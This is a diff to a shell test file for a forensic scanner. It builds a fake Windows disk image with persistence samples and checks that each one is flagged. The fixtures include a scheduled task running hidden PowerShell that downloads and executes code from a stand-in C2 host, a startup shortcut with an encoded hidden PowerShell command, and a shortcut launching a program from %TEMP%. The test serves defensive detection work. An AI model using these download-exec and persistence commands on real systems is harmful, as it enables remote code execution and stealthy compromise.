@@ -333,31 +333,47 @@ REG
     task 'OneDrive Standalone Update Task' '%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe' '/reporting'
     task 'Sync' 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' "-w hidden -c IEX (New-Object Net.WebClient).DownloadString(&apos;http://c2.example/a&apos;)"
     printf '[.ShellClassInfo]\r\n' >"$IMG2/ProgramData/$startup/StartUp/desktop.ini"
-    printf 'L\0\0\0' >"$IMG2/ProgramData/$startup/StartUp/OneNote.lnk"
+    # shortcuts are judged by what they run: an ordinary one, PowerShell with an encoded
+    # command, a program in %TEMP% named only in the environment-variable block (the id list
+    # before it skipped), and a damaged one (an error naming it)
+    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/ProgramData/$startup/StartUp/OneNote.lnk" \
+        --local 'C:\Program Files\Microsoft Office\root\Office16\ONENOTEM.EXE' --args /tsr
+    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/Users/alice/AppData/Roaming/$startup/Startup/WinUpdate.lnk" \
+        --local 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe' --args '-w hidden -enc SQBFAFgA' \
+        --workdir 'C:\Windows'
+    "$PYTHON" "$SRCDIR/tests/tools/mklnk.py" "$IMG2/ProgramData/$startup/StartUp/Sync.lnk" --ansi \
+        --id-list 3 --env-target '%TEMP%\svc.exe'
+    printf 'L\0\0\0' >"$IMG2/ProgramData/$startup/StartUp/Broken.lnk"
     printf 'CreateObject("WScript.Shell").Run "calc"\r\n' >"$IMG2/Users/alice/AppData/Roaming/$startup/Startup/update.vbs"
     run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --out "$OUT" --no-progress
     [ "$status" -eq 0 ]
     validate "$OUT"
     run jq -r '[.traces[] | select(.kind == "persistence") | "\(.why)|\(.path)|\(.user // "-")"] | sort | .[]' "$OUT"
     printf '%s\n' "${lines[@]}"
-    [ "${#lines[@]}" -eq 8 ]
+    [ "${#lines[@]}" -eq 10 ]
     [ "${lines[0]}" = "download-exec|/Windows/System32/Tasks/Sync|-" ]
+    [ "${lines[1]}" = "encoded-exec|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/WinUpdate.lnk|alice" ]
     # a command padded past the first kilobytes is still judged whole
-    [ "${lines[1]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Pad|-' ]
-    [ "${lines[2]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
+    [ "${lines[2]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Pad|-' ]
+    [ "${lines[3]}" = 'encoded-exec|HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater|-' ]
     # a 5,000-character value name before it hides nothing
-    [ "${lines[3]}" = "encoded-exec|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil|alice" ]
-    [ "${lines[4]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
-    [ "${lines[5]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
-    [ "${lines[6]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
-    [ "${lines[7]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
+    [ "${lines[4]}" = "encoded-exec|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Evil|alice" ]
+    [ "${lines[5]}" = "script-url|HKU\\$SID\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x|alice" ]
+    [ "${lines[6]}" = "startup-program|/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs|alice" ]
+    [ "${lines[7]}" = "tmp-path|/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Sync.lnk|-" ]
+    [ "${lines[8]}" = 'tmp-path|HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Run\Helper|-' ]
+    [ "${lines[9]}" = 'user-dir|HKLM\SYSTEM\CurrentControlSet\Services\WinUpdSvc|-' ]
+    # a shortcut's trace shows what it runs
+    jq -e '.traces[] | select(.path | endswith("WinUpdate.lnk")) | .text == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -enc SQBFAFgA"' "$OUT"
+    jq -e '.traces[] | select(.path | endswith("Sync.lnk")) | .text == "%TEMP%\\svc.exe"' "$OUT"
+    jq -e '.errors[] | select((.path // "") | endswith("StartUp/Broken.lnk")) | .kind == "parse"' "$OUT"
     jq -e '.traces[] | select(.why == "download-exec") | .text | contains("DownloadString(\u0027http://c2.example/a\u0027)")' "$OUT"
     jq -e '[.findings[] | select(.id == "TK-TRACE-PERSISTENCE")] | length == 1' "$OUT"
     # --only autostart selects the collector by itself
     run "$TENKEN" scan --root "$IMG2" --only host,users,autostart --out "$OUT" --no-progress
     [ "$status" -eq 0 ]
     validate "$OUT"
-    jq -e '[.traces[] | select(.kind == "persistence")] | length == 8' "$OUT"
+    jq -e '[.traces[] | select(.kind == "persistence")] | length == 10' "$OUT"
     # --no-traces: none looked for
     run "$TENKEN" scan --root "$IMG2" --no-memory --no-disk --no-traces --out "$OUT" --no-progress
     [ "$status" -eq 0 ]
